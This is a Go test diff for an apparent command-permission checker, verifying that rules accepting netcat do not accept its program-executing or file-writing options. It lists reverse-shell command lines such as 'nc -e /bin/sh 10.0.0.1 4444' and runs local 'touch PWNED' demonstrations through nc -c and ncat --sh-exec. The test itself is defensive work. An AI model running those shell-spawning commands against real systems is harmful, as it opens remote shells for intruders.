@@ -399,3 +399,43 @@ program = ["gpg", "gpg2"]
 	}
 	wantAccepted(t, p, "gpg verifies and lists", "gpg --verify x.sig x", "gpg --list-keys", "gpg --batch --verify SHA256SUMS.asc SHA256SUMS", "gpg -k --with-colons")
 }
+
+// TestRound27NetcatExec: nc checks a port (nc -z host 80), and a rule
+// may accept it; but netcat-traditional's -e PROGRAM and -c COMMAND run
+// a program with the connection as its stdin and stdout (ncat's -e,
+// -c/--sh-exec and --lua-exec too), as soon as it connects or accepts a
+// connection, and -o FILE (ncat's --output, -x) writes the session into
+// FILE. known.go knew nothing of netcat. Demonstrated with
+// netcat-traditional 1.10 and ncat 7.93, where they are installed, each
+// connecting to a listener of its own.
+func TestRound27NetcatExec(t *testing.T) {
+	p := mustParse(t, `
+[[rule]]
+name = "net"
+decision = "accept"
+[rule.match]
+program = ["nc", "netcat", "nc.traditional", "ncat"]
+`)
+	for _, c := range []struct{ nc, listen, line string }{
+		{"nc.traditional", "nc.traditional -l -p 47123 -q 0", "nc.traditional -q 0 -c 'touch PWNED' 127.0.0.1 47123"},
+		{"ncat", "ncat -l 47124", "ncat --sh-exec 'touch PWNED' 127.0.0.1 47124"},
+	} {
+		if _, err := exec.LookPath(c.nc); err != nil {
+			t.Logf("%s is not installed: no demonstration", c.nc)
+			continue
+		}
+		work := t.TempDir()
+		out := bashIn(t, "timeout 10 "+c.listen+" </dev/null >/dev/null & sleep 0.5; timeout 5 "+c.line+"; wait", work, []string{"PATH=/usr/bin:/bin", "LANG=C"})
+		if _, err := os.Stat(filepath.Join(work, "PWNED")); err != nil {
+			t.Errorf("%q made no PWNED (output %q): the demonstration failed", c.line, out)
+		}
+	}
+	for _, line := range []string{"nc -c 'touch PWNED' 127.0.0.1 80", "nc -e /bin/sh 10.0.0.1 4444", "nc -lvp 4444 -e /bin/sh", "nc -vc id h 1",
+		"ncat --sh-exec 'touch PWNED' h 1", "ncat --exec /bin/sh h 1", "ncat --lua-exec x.lua h 1", "ncat -o log h 1", "ncat -x dump h 1",
+		"nc -o dump h 80", "netcat -e /bin/sh h 1"} {
+		if v, ok := acceptedBy(t, p, line); ok {
+			t.Errorf("%q: accepted by rule %q as %q; netcat runs the program or writes the file", line, v.Rule, commandsOf(v.Analysis))
+		}
+	}
+	wantAccepted(t, p, "nc checks a port", "nc -z localhost 8080", "nc -zv -w 3 example.com 443", "ncat -z 127.0.0.1 5432", "nc -l -p 9000")
+}
